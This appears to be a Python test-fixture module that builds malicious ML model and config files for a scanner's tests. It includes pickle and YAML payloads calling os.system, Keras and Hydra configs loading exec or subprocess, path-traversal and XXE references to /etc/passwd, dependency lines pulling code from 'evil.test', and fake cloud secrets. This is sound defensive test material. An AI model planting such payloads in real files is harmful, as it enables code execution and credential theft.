"""Files that mislead, spy, exhaust or run, beyond the corpus: each by the trick that is in its name, made here.

A name with a slash is a folder and a file in it. Sources: CVE-2024-27322 (R), CVE-2025-1550, -8747, -9905, -9906, -12058
(Keras), CVE-2025-53630 (GGUF), JFrog's and Protect AI's notes on TensorFlow operations and on `_target_`, PyYAML's tags,
HyperPyYAML's, the HDF5 file format 3.0 (external links, external storage, virtual datasets), numpy.lib.format.
"""
# ruff: noqa: E501 - what is packed in base64 has no better line

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import zipfile
import zlib

from tests.domain.malicious_models import WEIGHTS, gguf, safetensors

# Made with h5py 3.16: a dataset that lies in /etc/passwd, by a link, by external storage, by a virtual dataset.
HDF5 = {
    "linked": "eNrr9HBx4+WS4mIAAQ4OBhYGAQZk8B8KGthR+TD5BCjNCKU7oPQKJpg4I1hOAiouCDUfXV1IkKsrSPV/NACz5wErhOZgGAUjEXi4OgaA6AgoH5ZKTzChqstJrEwtKkakRw8K7WUE5gjk9CsAtVkDmh9g7oGkXwac6XcUjKZf5PQCK8c6WNHTGwQEUMneYD9/F1AJDLNPgRnVHg8oP4N1NI7wASZ4CYA9h3MBQ5gRST0bgwIknDkc2LJTi/JSc4Dlhn5qSbJ+QWJxcXkKg34FWB4A6Ktauw==",
    "linked-new": "eNrr9HBx4+WS4mLm4GCAgf9Q4MYI4RtAxR1/LTLw93AJYmKoYBJCVggDXEwMQC1sggxAii0nsTK1qHgzzFBnBmoA1pKZmWAnKBjzM2UjY/xOkgE6icOBLTu1KC81R4CBQT+1JFm/ILG4uDyFQb+CgcGCfCedC1XLBgAz2kFS",
    "stored": "eNrr9HBx4+WS4mIAAQ4OBhYGAQZk8B8KNrCi8mHyCVCaEUp3QOkVTDBxRrCcBFRcEGo+urqQIFdXkOr/aABmTwYLhOZgGAUjEXi4OgaA6AgoH5ZKTzChqstOLcpLzUGkRw8K7WVkYIOYxQjjQ1IyIyNEIAWqDkYzA13GCHUfI1KKZQXSID4TExNYmJ1BA8xnhOYRAxzpG2YuB9ReZkZYzkhBU5lA13iQQMv3ASyo6vRTS5L1CxKLi8sh7gz283cB+RPmPwXm0TRNDgAA1Z0+Cg==",
    "stored-new": "eNrr9HBx4+WS4mLm4GCAgf9Q8J0RwjeAii/NEfX193AJYmKoYBJCVggDXEwMQC1sggxAii07tSgvNWczzFBnBmoAq/bSM2AnMDIwMoowMDAxMjKmQOVgNDMPA6MAA8gNIMDBwAp0FTMXuwZQB1iUkWE/1GMcaKbDTOAA+o6ZEeYrmChDD8OgAtNztb95uDoGgNgSUDGoxxjuM6Kq1U8tSdYvSCwuLof4BgAzgDiq",
    "virtual": "eNrr9HBx4+WS4mLm4GCAgf9QwCAB4RtAxR07O9n9PVyCmBgqmISQFcIAFxMDIwMDGw8DkGLM3gwzz4OBamCZTMAGsBMUjfmZspExAyOjCAMDEyMjIxdULYxmFmFgFFSQZ2AB8xQYxDkYxOuBLFaga5m5OfgYGFiYGaC+ZwQRWxiGJPifOeE3wygYBaNgFIyCUUAMcHf29wFXegJIFSAQuMAUwAT0U0uS9YszElPyy/UyTBlSGJiRJEGACVTVgsSYGKEaGYFVcHVcjyyyfTP4R8N8FIyCUTAKRsEoGAWjYBSMglEwCkbBKKA3AABMOTKk",
    "linked-many": "eNrtll1oFFcUx/8z2U02G0q0bR5s+9DQCBLE3Ts3+5EYYlyz47amTTQBm5RQNR9WYyEkaZMQP4igNlVa9EFbGiENoqgIigaX0pQ0TatUS6lpbB8MWBA/ELGUNi9C2pkzO3Nzb6EUKvShvbCcM+d35p67539mdgdTVeYTwWeCWYEA3PV7ZlXkOdfhTHxiMni7JlW1Tkev/uT8RHcFdWhA9kJYJnvbxr7Wzq7z7qar8DiWv/vDLXSEQp6vt8//+DTnTFOak9mqO9Y5E27hP7H2juyOmutStcixLnQswJ9EfSfLud6f6Q9c3bNlu+RvVvTZdTLLaf3zls3NcyM/3zvwaqI+VQW/nWeHW5bM6G4Nt8qBpj03zDorC0cz+mWO6VlRrxa9Vg232ozPiS+FbNOrpz9N1Feb8IfS5wKYtUKLsKl8Rx4eWNWfRfLu98/hGrk5cws4Xsiy3dvpiihOkbv/re3lWOOz3WMdKytQQDvMvtecxGlyLyUmU9hA7vhPT1djiDYzHzRV45xmu53jLzViNSU8Ze58DfkU/YYVtSFMubNzZzajgqr1ry98A1cp4dsVA30ooISi3OJ+FFM0/0TDICZps8GOsSFcpAQ+UXYU/ZQQOLh8GEly13731QgGKGGk8PpxtNG3iH9y4zjC5O7y7T2BNkrY/PLVMzhMtw1tbbmA9+k4Z79YMYpDVC256ZU0Gii6OFL0ObrJfTd4/xL6KKGm5uRlfEnRr8NXLmOGov6z+65gA+37QeVv13CTEl5f1vgD1lDh2uayHxGg6JsJ330so9tu9oz+igI65Pj2z478s6fBrKtLeoOu+YFH9jRpi4A79vBouzQM2OPT8Mvwx2aqKuG9POypXjU9VqcFKrPaedR6sYRau5tDHRu7unpaeBShXjgopqCYQHEFxQUqVVCpjf5f/+qS9bdm5qOe62UkF1OUZEJJpijJSj1khGVkhAViCmICGQoyBOIK4gKVKKhEoIiCIgIpc22IuTaUuTbEXBtKNwzRDUPphiG6wZVucNENrnSDi25wpRtcdIMr3eCiG1zpBhfd4Eo3eMR78mT97Z+xytSUdZPeHl4o3eOeXG9nMmAeMGRgeIDLgHugRAYlHojIIOKBqAyiHojJIOaBuAziHiiVgVCNKaoxoRpTVGNCNaaoxoRqTFGNCdWYohoTqjFFNSZmmCkzzMQMM2WGWewv37Jm6kVZ/9zcjM3JWL/8RyqYfvvhH4k/x54=",
}

# Made with TensorFlow 2.21's converter: a matrix product; an operation that TFLite has not (Erfinv).
TFLITE = {
    "plain": "eNptUjFLQlEU/rSXKT1MSKLBwaGhSdJqTrECQQ1Kos0EJYV8gj2joKGfEE2NDQ5Baz+gubEposE/0drrO/eeJxJd+Xj3fvee75zvHDMAGvvVzTSyyGAVaaTgkovD4R7kLHziJAJ0idcoMAe7uMUW4RBfQRDM636ZKB/Uj/cOjyoH9WZtr1HaLTVK1HWNdlzfhW/7Pa85HHl+r99pXnaGF72Bhxj5CfFBPBEPWofEeMwl31MipbXEkZxqC7dm2JjhYhony536dIzX5+v377PxqTOnfhwTBRRyhXxuA/jUXKKZz20LNV2i7PyTJ2u42x2gWAQeiQkB4pZ4lX1p/BMET8QSD7Vq5TBbHnj07nfaObDNpv+gp7Ba0U8qn1HvbaKrOfutnicRs7FpU7eLRY3VXsVd3a/TW0R9hzOVczDDR5SX+ztrwuS75xu5TqmW3K8SN+RlBpV2hwP1rzGjI9+3P3FRrfeFvPSv1vJro3PLR6dzWzF9gHbCrgWytuS0aoTeHfOz56uZ/CGXMv8D6YudovQjYbUSv3+kXaQ=",
    "custom": "eNplUT1PAkEQfQurUJxwCcRYUFxBYUUUaS0IYkLCR4IXY4cmnPEKjgRPoom/wtrS0sJfYWVlZUGi/8LO893ugAnO5V12ZmfezNupAPCPuwdleKhgB2W4cBjLQ/MMxixioqqABuFngCys8YgGoYlFkiRaziWiNeiftocnnUF/1Gv7zaOm3ySvY7jzsBzL3EkYjWY3URxOgtE8mF2H0wgbjD8TT8QjcS/5D9LnnLCz/nG6xO4qljMxmtIyr7PSqE3t2/v3VunQ+8yKljRvk6jX6vu1PRgv5d6UOxf/7eMnSRbEF1Gk3+t2hl5rGlFHHIxr4JOZtwQKq+4pZ0HiFdEyJq6kz+QijMzgkuOazo7o0eKBfLY+PftQWaUUdKaqlNQqmXHdT7WeSa9Xvmd65Yq+jPC+MJ7264wDLia+W9YpqQO2jR6IIms5Rm3Lssy+1KDNZ/3bNS4lvR3+i4bL7sczuzTmpTtozy7DaA78AjJ3R10=",
}


def tflite(name: str) -> bytes:
    return zlib.decompress(base64.b64decode(TFLITE[name]))


def _program(shell: str) -> bytes:
    return b"cos\nsystem\n(V" + shell.encode() + b"\ntR."


def _npy(descr: str, data: bytes, version: bytes = b"\1\0") -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY" + version + struct.pack("<H", len(head)) + head + data


def _zip(members: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return target.getvalue()


def field(number: int, value: bytes | int) -> bytes:
    """A protobuf field: a text, a message or a number."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def onnx_tensor(place: bytes) -> bytes:
    """A TensorProto whose data lie at `place`."""
    entry = field(1, b"location") + field(2, place)
    return field(1, 4) + field(2, 1) + field(8, b"w") + field(13, entry) + field(14, 1)


def onnx(graph: bytes, before: bytes = b"\x08\x0a") -> bytes:
    """A ModelProto with this GraphProto."""
    return before + field(7, graph) + field(8, field(2, 18))


def _saved_model(op: bytes, in_library: bool = False) -> bytes:
    node = field(1, b"node") + field(2, op) + field(3, b"input")
    graph = field(1, field(1, b"x") + field(2, b"Placeholder"))
    graph += field(2, field(1, field(1, field(1, b"f")) + field(3, node))) if in_library else field(1, node)
    return field(1, 1) + field(2, field(1, field(5, b"2.19.0")) + field(2, graph))


def gguf_tensors(
    *tensors: tuple[bytes, tuple[int, ...], int, int], data: bytes = b"", keys: bytes = b"", count: int = 0
) -> bytes:
    """A GGUF 3 file with tensors (name, dimensions, type, offset) as they are given, right or wrong."""
    body = b""
    for name, dimensions, kind, offset in tensors:
        body += struct.pack("<Q", len(name)) + name + struct.pack("<L", len(dimensions))
        body += b"".join(struct.pack("<Q", each) for each in dimensions) + struct.pack("<LQ", kind, offset)
    head = b"GGUF" + struct.pack("<LQQ", 3, len(tensors), count) + keys + body
    return head + b"\0" * (-len(head) % 32) + data


def _behind_a_magic(shell: str) -> dict[str, bytes]:
    """Programs that begin like something else: the first letters are an opcode with an argument."""
    program = _program(shell)
    tail = b"0" + program
    hdf5 = b"\x89HDF\r\n\x1a\n" + b"\0" * 600
    return {
        "picture.gif": b"GIF89a\1\0\1" + tail,
        "picture-old.gif": b"GIF87a\1\0\1" + tail,
        "user-block.h5": program.ljust(512, b"\0") + hdf5,
        "user-block.dat": (b"\x80\x04" + program).ljust(1024, b"\0") + hdf5,
        "lite.tflite": b"U\x06\0\0TFL3" + tail,
        "header.dat": b"MYMODEL1" + struct.pack("<Q", 7) + b"\x80\x04" + program,
        "behind-weights.dat": b"\1own" + bytes(range(256)) * 40 + pickle.dumps({"a": 1}, 4)[:-1] + b"0" + program,
        "attribute.h5": hdf5 + b"\x80\x04" + program,
        "array-attribute.h5": hdf5 + b"\0" * 64 + b"\x80\x02cposix\nsystem\nq\0X\4\0\0\0true\x85R.",
    }


def _numpy() -> dict[str, bytes]:
    inside = pickle.dumps([{"a": 1}])
    return {
        "object-word.npy": _npy("'object'", inside),
        "object-width.npy": _npy("'object_'", inside),
        "object-comma.npy": _npy("'i4,O'", inside),
        "object-subarray.npy": _npy("('|O', (2,))", inside),
        "object-nested.npy": _npy("[('a', [('b', '|O')])]", inside),
        "object-titled.npy": _npy("[(('t', 'a'), '|O')]", inside),
        "odd-field.npy": _npy("[()]", b"\0" * 8),
        "odd-dtype.npy": _npy("7", b"\0" * 8),
        "expression.npy": _npy("__import__('os').system('x')", b""),
        "long-number.npy": _npy("'<f4'", b"\0" * 4).replace(b"(1,)", b"(" + b"9" * 30 + b",)"),
        "object-word.npz": _zip({"a.npy": _npy("'object'", inside)}),
        "cut.npy": b"\x93NUMPY\1\0",
        "not.npy": b"\x93NUMPX" + b"\0" * 200,
        "not.npz": b"\0\1\2\3" * 90,
    }


def _zips() -> dict[str, bytes]:
    array = _npy("'<f4'", b"\0" * 4)
    plain = _zip({"a.npy": array, "b.npy": array})
    orphan = _zip({"evil.pkl": _program("true")})
    orphan = orphan[: orphan.find(b"PK\1\2")]
    shifted = bytearray(orphan + plain)
    sizes = bytearray(plain)
    sizes[18:22] = struct.pack("<L", 7)
    other = zipfile.ZipInfo("a.npy")
    other.extra = struct.pack("<HHBL", 0x7075, 5 + 5, 1, zlib.crc32(b"a.npy")) + b"b.pkl"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(other, array)
    fifo = zipfile.ZipInfo("a.npy")
    fifo.external_attr = 0o010644 << 16
    pipe = io.BytesIO()
    with zipfile.ZipFile(pipe, "w") as archive:
        archive.writestr(fifo, array)
    return {
        "orphan.npz": bytes(shifted),
        "sizes.npz": bytes(sizes),
        "two-names.npz": target.getvalue(),
        "pipe.npz": pipe.getvalue(),
        "nul.npz": plain.replace(b"b.npy", b"b\0npy"),
        "drive.npz": _zip({"C:a.npy": array}),
        "dots.npz": _zip({"a/../../b.npy": array}),
        "cafe.npz": _zip({"e\u0301.npy": array, "\u00e9.npy": array}),
    }


def _protobufs() -> dict[str, bytes]:
    tensor = onnx_tensor(b"../../etc/passwd")
    deep = tensor
    node = field(1, b"x") + field(4, b"If") + field(5, field(1, b"then_branch") + field(6, field(5, deep)))
    padded = field(13, b"\x8a\x00\x88\x00location" + field(2, b"/etc/passwd"))
    split = field(13, field(1, b"location") + field(9, b"x" * 40) + field(2, b"/etc/passwd"))
    made = {
        "initializer.onnx": onnx(field(5, tensor)),
        "order.onnx": onnx(field(5, tensor), before=b"") + b"\x08\x0a",
        "renamed.ort-model": onnx(field(5, tensor)),
        "branch.onnx": onnx(field(1, node)),
        "constant.onnx": onnx(field(1, field(4, b"Constant") + field(5, field(1, b"value") + field(5, tensor)))),
        "sparse.onnx": onnx(field(15, field(1, tensor))),
        "function.onnx": onnx(b"") + field(25, field(1, b"f") + field(7, field(5, field(5, tensor)))),
        "training.onnx": onnx(b"") + field(20, field(1, field(5, tensor))),
        "padded-length.onnx": onnx(field(5, field(1, 4) + padded + field(14, 1))),
        "something-between.onnx": onnx(field(5, field(1, 4) + split)),
        "twice.onnx": onnx(field(5, field(13, field(1, b"location") + field(2, b"w.bin") + field(2, b"/etc/passwd")))),
        "device.onnx": onnx(field(5, onnx_tensor(b"/dev/zero"))),
        "cut.onnx": onnx(field(5, tensor))[:-9],
        "noise.onnx": bytes(range(250, 0, -1)) * 4,
    }
    for op in (
        b"ReadFile",
        b"WriteFile",
        b"PyFunc",
        b"EagerPyFunc",
        b"PyFuncStateless",
        b"MatchingFiles",
        b"DebugIdentityV2",
    ):
        made[f"{op.decode()}/saved_model.pb"] = _saved_model(op)
    made["library/saved_model.pb"] = _saved_model(b"WriteFile", in_library=True)
    made["frozen.pb"] = field(1, field(1, b"n") + field(2, b"WriteFile"))
    made["renamed.dat"] = _saved_model(b"ReadFile")
    made["padded/saved_model.pb"] = field(1, 1) + b"\x12\x92\x00\x88\x00WriteFile".replace(b"\x88\x00", b"\x89\x00")
    made["text/saved_model.pbtxt"] = (
        b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "a" op: "WriteFile" } } }\n'
    )
    made["text-hidden/saved_model.pbtxt"] = (
        b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { op: "Write" "\\106ile" } } }\n'
    )
    made["keras_metadata.pb"] = field(
        1, field(4, json.dumps({"class_name": "Lambda", "config": {}}).encode()) + b"\x10\0"
    )
    made["deploy.prototxt"] = (
        b'layer {\n  name: "p"\n  type: "Python"\n  python_param { module: "evil" layer: "L" }\n}\n'
    )
    return made


def _keras() -> dict[str, bytes]:
    def layer(**keys: object) -> bytes:
        return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [keys]}}).encode()

    return {
        "module/config.json": layer(module="builtins", class_name="exec", config="x", registered_name=None),
        "function/config.json": layer(module="builtins", class_name="function", config="eval"),
        "os/config.json": layer(module="os", class_name="function", config="system", registered_name="function"),
        "get-file/config.json": layer(module="keras.utils", class_name="function", config="get_file"),
        "get-file-class/config.json": layer(
            module="keras.src.utils.file_utils", class_name="get_file", config={"origin": "http://x/y"}
        ),
        "unsafe/config.json": layer(
            module="keras.config", class_name="function", config="enable_unsafe_deserialization"
        ),
        "load/config.json": layer(module="keras.models", class_name="load_model", config={"filepath": "/tmp/x"}),
        "vocabulary/config.json": layer(
            module="keras.layers", class_name="StringLookup", config={"vocabulary": "/etc/passwd"}
        ),
        "address/config.json": layer(
            module="keras.layers", class_name="TextVectorization", config={"vocabulary": "http://evil.test/v"}
        ),
        "module.h5": b"\x89HDF\r\n\x1a\n"
        + b"\0" * 500
        + layer(module="subprocess", class_name="function", config="run"),
        "vocabulary.h5": b"\x89HDF\r\n\x1a\n"
        + b"\0" * 500
        + layer(class_name="IntegerLookup", config={"vocabulary": "/proc/self/environ"}),
        "bom/config.json": b"\xef\xbb\xbf" + layer(class_name="Lambda", config={}),
        "utf16/config.json": layer(class_name="Lambda", config={}).decode().encode("utf-16"),
        "utf32/config.json": layer(class_name="Lambda", config={}).decode().encode("utf-32"),
        "deep/config.json": b'{"a":' * 5000 + b'{"class_name": "Lambda"}' + b"}" * 5000,
        "comment/config.json": b'// written by hand\n{"class_name": "Lambda", "config": {}}',
    }


def _configs(shell: str) -> dict[str, bytes]:
    run = f"python/object/apply:os.system ['{shell}']"
    encoded = base64.b64encode(b"\x80\x04" + _program(shell)).decode()
    return {
        "percent.yaml": f"a: !!%70{run[1:]}\n".encode(),
        "handle.yaml": f"%TAG !e! tag:yaml.org,2002:\n---\na: !e!{run}\n".encode(),
        "handle-part.yaml": f"%TAG !e! tag:yaml.org,2002:pyth\n---\na: !e!on/object/apply:os.system ['{shell}']\n".encode(),
        "utf16.yaml": f"a: !!{run}\n".encode("utf-16"),
        "module.yaml": b"a: !!python/module:antigravity\n",
        "hyper.yaml": f"a: !apply:os.system\n  - {shell}\n".encode(),
        "hyper-new.yaml": f"a: !new:subprocess.Popen\n  args: {shell}\n".encode(),
        "laughs.yaml": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n".encode() for n in range(9)),
        "MLmodel": b"flavors:\n  python_function:\n    loader_module: !!python/name:os.system ''\n",
        "target-hook.yaml": b"model:\n  _target_: torch.hub.load\n  repo_or_dir: evil/repo\n",
        "target-load.yaml": b"model:\n  _target_: joblib.load\n  filename: x\n",
        "target-stdlib.yaml": b"model:\n  _target_: timeit.timeit\n  stmt: x\n",
        "target-profile.json": json.dumps({"_target_": "cProfile.run", "statement": shell}).encode(),
        "target-numpy.json": json.dumps({"_target_": "numpy.testing._private.utils.runstring"}).encode(),
        "target-quoted.yaml": b'model: {"_targ\\x65t_": "os.system"}\n',
        "diffusion.yaml": b"model:\n  target: os.system\n  params: {command: x}\n",
        "class-path.yaml": b"model:\n  class_path: subprocess.Popen\n  init_args: {args: x}\n",
        "peft/adapter_config.json": b'{"auto_mapping": {"base_model_class": "system", "parent_library": "os"}, "peft_type": "LORA"}',
        "remote/config.json": b'{"auto_map": {"AutoModel": "someone/else--modeling.Net"}}',
        "remote-tokenizer/tokenizer_config.json": b'{"auto_map": {"AutoTokenizer": ["someone/else--tok.Tok", null]}}',
        "climb/model.safetensors.index.json": b'{"weight_map": {"w": "../../etc/passwd"}}',
        "root/model.safetensors.index.json": b'{"weight_map": {"w": "/var/lib/other/weights"}}',
        "base64/data.json": json.dumps({"policy_class": {":type:": "<class>", ":serialized:": encoded}}).encode(),
        "base64.txt": f"state = {encoded}\n".encode(),
        "laughs.pmml": b'<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>\n<PMML>&b;</PMML>\n',
        "outside.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><net>&e;</net>',
        "dtd.pmml": b'<!-- a model -->\n<!DOCTYPE PMML SYSTEM "http://evil.test/x.dtd">\n<PMML/>',
        "utf16.pmml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "a">]><PMML/>'.encode("utf-16"),
        "utf7.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<net/>',
        "requirements.txt": b"numpy\n--index-url http://evil.test/simple\ntorch\n",
        "trusted/requirements.txt": b"--trusted-host evil.test\nhttp://evil.test/torch-2.0-py3-none-any.whl\n",
        "conda.yaml": b"dependencies:\n- pip:\n  - http://evil.test/x-1.0.tar.gz\n",
    }


def _wrong_weights() -> dict[str, bytes]:
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"4d" * 32 + b"\nsize 12345\n"
    return {
        "pointer.gguf": pointer,
        "model.safetensors": pointer,
        "weights.data": pointer,
        "xet.bin": b"# xet version 0\nfilesize = 12345\nhash = '4d4d'\n",
        "page.onnx": b"<!DOCTYPE html>\n<html><body>Sign in</body></html>\n",
        "page.h5": b"<!DOCTYPE html>\n<html><body>404</body></html>\n",
        "empty.gguf": b"",
        "empty.onnx": b"",
        "not.gguf": b"\x01\x02GG" * 50,
        "not.h5": b"\0\xff" * 900,
        "not.tflite": b"\x1c\0\0\0TFL9" + b"\0\xfe" * 90,
    }


def _headers() -> dict[str, bytes]:
    key = lambda name, kind, value: struct.pack("<Q", len(name)) + name + struct.pack("<L", kind) + value  # noqa: E731
    return {
        "size.gguf": gguf_tensors((b"w", (1024, 1024), 0, 0), data=b"\0" * 64),
        "wrap.gguf": gguf_tensors((b"w", (2**32, 2**32), 0, 0), data=b"\0" * 64),
        "wrap-blocks.gguf": gguf_tensors((b"w", (2**61, 8), 0, 0), data=b"\0" * 64),
        "negative.gguf": gguf_tensors((b"w", (2**64 - 1,), 0, 0), data=b"\0" * 64),
        "kind.gguf": gguf_tensors((b"w", (8,), 9999, 0), data=b"\0" * 64),
        "overlap.gguf": gguf_tensors((b"w", (8,), 0, 0), (b"v", (8,), 0, 0), data=b"\0" * 64),
        "unaligned.gguf": gguf_tensors((b"w", (8,), 0, 3), data=b"\0" * 64),
        "twice.gguf": gguf_tensors((b"w", (8,), 0, 0), (b"w", (8,), 0, 32), data=b"\0" * 64),
        "alignment.gguf": gguf_tensors(
            (b"w", (8,), 0, 0), data=b"\0" * 64, keys=key(b"general.alignment", 4, struct.pack("<L", 0)), count=1
        ),
        "block.gguf": gguf_tensors((b"w", (33,), 2, 0), data=b"\0" * 64),
        "array.gguf": gguf_tensors(keys=key(b"a", 9, struct.pack("<LQ", 4, 2**62)), count=1),
        "nested.gguf": gguf_tensors(keys=key(b"a", 9, struct.pack("<LQ", 9, 1) * 40), count=1),
        "named-list.gguf": gguf({"tokenizer.chat_template.tool_use": "{{ ''.__class__ }}"}),
        "secret.safetensors": safetensors(
            {"__metadata__": {"cmd": "--hub_token hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh"}}
        ),
        "float-shape.safetensors": safetensors(
            {"w": {"dtype": "F32", "shape": [2.0], "data_offsets": [0, 8]}}, b"\0" * 8
        ),
        "true-shape.safetensors": safetensors({"w": {"dtype": "U8", "shape": [True], "data_offsets": [0, 1]}}, b"\0"),
        "not-a-number.safetensors": safetensors(b'{"w":{"dtype":"F32","shape":[NaN],"data_offsets":[0,4]}}', b"\0" * 4),
        "zip-behind.gguf": gguf({}) + _zip({"data.pkl": b"x"}),
        "gif-behind.npy": _npy("'<f4'", b"\0" * 4) + b"GIF89a",
    } | {f"{name}.h5": zlib.decompress(base64.b64decode(packed)) for name, packed in HDF5.items()}


def _programs() -> dict[str, bytes]:
    """What other languages' loaders run, and boxes that no rule named before."""
    code = marshal.dumps(compile("import os", "x", "exec"))
    return {
        "model.rds": b"X\n\0\0\0\3\0\4\3\1\0\3\5\0\0\0\0\5UTF-8" + b"\0" * 40,
        "ascii.rds": b"A\n3\n262913\n197888\n5\nUTF-8\n254\n",
        "model.RData": b"RDX3\nX\n\0\0\0\3" + b"\0" * 40,
        "model.t7": b"\x1bLua\x51\0\1\4\4\4\x08\0" + b"\0" * 40,
        "jit.bin": b"\x1bLJ\2\0" + b"\0" * 40,
        "code.bin": code,
        "dot.net": b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0" + b"\0" * 40,
        "static.a": b"!<arch>\n" + b"x" * 60,
        "app.dex": b"dex\n035\0" + b"\0" * 60,
        "bitcode.bc": b"BC\xc0\xde" + b"\0" * 60,
        "macro.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "model.engine": b"ftrt" + b"\0" * 60,
        "skippable.zst": b"\x50\x2a\x4d\x18" + struct.pack("<L", 4) + b"abcd" + b"\x28\xb5\x2f\xfd" + b"\0" * 20,
        "old.lz4": b"\x02\x21\x4c\x18" + b"\0" * 40,
        "snappy.sz": b"\xff\x06\0\0sNaPpY" + b"\0" * 40,
        "model.Z": b"\x1f\x9d\x90" + b"\0" * 40,
        "model.lz": b"LZIP\1" + b"\0" * 40,
        "model.cab": b"MSCF\0\0\0\0" + b"\0" * 40,
        "model.cpio": b"070701" + b"0" * 104,
        "disk.img": b"hsqs" + b"\0" * 90,
    }


def coreml(layer: bytes = b"", kind: int = 500) -> bytes:
    """A Core ML model whose network has this layer, between a description and nothing."""
    return field(1, 4) + field(2, field(1, b"input")) + field(kind, field(1, field(1, b"dense") + layer))


def packed_array(shape: bytes, dtype: bytes, data: bytes) -> bytes:
    """An array as Flax packs it, in a dictionary of one."""
    held = b"\x93" + shape + bytes([0xA0 | len(dtype)]) + dtype + b"\xc4" + bytes([len(data)]) + data
    return b"\x81\xa1w\xc7" + bytes([len(held)]) + b"\x01" + held


def _others() -> dict[str, bytes]:
    """Formats of phones and of Flax: what an app must bring as code, places outside, lengths and types that lie."""
    plain = tflite("plain")
    buffer = plain.rindex(struct.pack("<8f", 1, 3, 5, 7, 2, 4, 6, 8))
    custom = field(500, field(10, b"EvilLayer"))
    return {
        "buffer.tflite": plain[: buffer - 4] + struct.pack("<L", 2**31) + plain[buffer:],
        "layer.mlmodel": coreml(custom),
        "classifier.mlmodel": coreml(custom, 403),
        "in-a-pipeline.mlmodel": field(1, 5) + field(202, field(1, coreml(custom))),
        "in-a-classifier.mlmodel": field(1, 5) + field(200, field(1, field(1, coreml(custom)))),
        "whole.mlmodel": field(1, 4) + field(555, field(10, b"EvilModel")),
        "linked.mlmodel": field(1, 4) + field(556, field(1, field(1, b"other"))),
        "outside.mlmodel": field(1, 7) + field(502, field(2, b"@model_path/weights/../../../x.bin")),
        "A.mlpackage/Manifest.json": json.dumps({"itemInfoEntries": {"a": {"path": "../../x.mlmodel"}}}).encode(),
        "objects.msgpack": packed_array(b"\x91\x01", b"object", b"x"),
        "claims.msgpack": packed_array(b"\x91\xcf" + struct.pack(">Q", 2**60), b"float32", b"abcd"),
        "deep.msgpack": b"\x91" * 100_000 + b"\xc0",
        "long.msgpack": b"\xdd\xff\xff\xff\xff",
        "blob.msgpack": b"\xc6\xff\xff\xff\xff",
        "extension.msgpack": b"\x81\xa1w\xd4\x63x",
        "behind.msgpack": packed_array(b"\x91\x01", b"uint8", b"x") + b"more",
        "named-otherwise.weights": onnx(field(1, field(4, b"PyOp") + field(7, b"ai.onnx.contrib"))),
        "key.gguf": gguf_tensors(keys=struct.pack("<Q", 2**16) + b"k" * 2**16 + struct.pack("<LB", 0, 1), count=1),
        "architecture.gguf": gguf_tensors(
            keys=struct.pack("<Q", 20) + b"general.architecture" + struct.pack("<LL", 4, 1), count=1
        ),
    }


def _setups() -> dict[str, bytes]:
    """What installers, builders and shells run of a folder's own files."""
    hooks = {f"{hook}/package.json": json.dumps({"scripts": {hook: "node x.js"}}).encode()
             for hook in ("preinstall", "install", "postinstall", "prepare")}  # fmt: skip
    return hooks | {
        "source/package.json": b'{"dependencies": {"x": "http://evil.test/x.tgz"}}',
        "binding.gyp": b'{"targets": [{"target_name": "x", "actions": []}]}',
        "requires/pyproject.toml": b'[build-system]\nrequires = ["x @ http://evil.test/x.whl"]\n',
        "requires/setup.cfg": b"[options]\ninstall_requires = x @ git+http://evil.test/x\n",
        ".env": b"# settings\nexport LD_PRELOAD=/tmp/x.so\n",
        "node/.env.local": b"NODE_OPTIONS=--require ./x.js\n",
        "outside/Modelfile": b"FROM /etc/passwd\n",
        "adapter/Modelfile": b"FROM llama3\nADAPTER ../../x\n",
        "MANIFEST.json": b'{"model": {"handler": "h.py", "serializedFile": "../../x"}}',
        "schema.json": b'{"__class__": "system", "__module__": "os", "__loader__": "ReduceNode"}',
        "model.safetensors.index.json": b'{"weight_map": {"w": ["x"]}}',
    }


SECRETS = {
    "hub token with digits": "hf_AbCdEfGhIj1234KlMnOpQrStUvWxYz5678".ljust(37, "q")[:37],
    "aws secret": "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYzRk8Qw2Lp9Tz",
    "aws secret in ini": "aws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYzRk8Qw2Lp9Tz",
    "azure storage": "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=" + base64.b64encode(bytes(range(7, 71))).decode(),
    "azure sas": "https://a.blob.core.windows.net/c?sv=2024-01-01&sig=" + "aB3%2Fd9Kq7LmN2pQ4rS6tU8vW0xY1zA5bC7dE9fG1h%3D",
    "wandb": "WANDB_API_KEY=" + "8f3a1c9d7e5b2460f1a3c5d7e9b0246813579bdf",
    "wandb in code": 'wandb.login(key="8f3a1c9d7e5b2460f1a3c5d7e9b0246813579bdf")',
